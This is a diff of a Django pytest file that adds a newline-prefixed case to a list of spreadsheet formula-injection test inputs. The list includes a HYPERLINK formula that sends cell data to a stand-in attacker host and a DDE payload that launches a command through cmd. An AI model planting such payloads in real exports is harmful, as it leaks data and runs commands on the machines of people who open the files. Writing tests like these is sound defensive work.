@@ -17,7 +17,7 @@ pytestmark = pytest.mark.django_db
 
 ROOT = pathlib.Path(__file__).resolve().parent.parent
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-FORMULAS = [HOSTILE, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
+FORMULAS = [HOSTILE, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1"]
 
 
 @pytest.mark.parametrize("text", FORMULAS)
